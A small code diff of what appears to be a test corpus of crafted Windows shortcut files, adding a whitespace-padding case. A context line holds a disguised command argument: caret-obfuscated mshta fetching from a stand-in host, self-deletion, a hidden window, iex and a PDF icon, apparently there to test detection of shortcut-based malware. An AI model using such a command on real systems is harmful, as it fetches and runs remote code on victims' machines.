@@ -25,6 +25,7 @@ CORPUS = {
                             m.uri("http://h/a"), m.entry("Long name.exe", short="LONGNA~1.EXE"))),
     "two-ways": m.link(name="x" * 262, arguments="b"),
     "command": m.link(link_info=m.info(CMD), arguments="/c" + " " * 9 + "m^s^h^ta http://h/ & del a.lnk -w hidden iex", icon="a.pdf"),
+    "padded-to-its-end": m.link(arguments=" " * 9 + "x"),  # what follows the blanks was shown past its end
     "overlay": m.link(overlay=b"MZ\0\0"),
 }
 
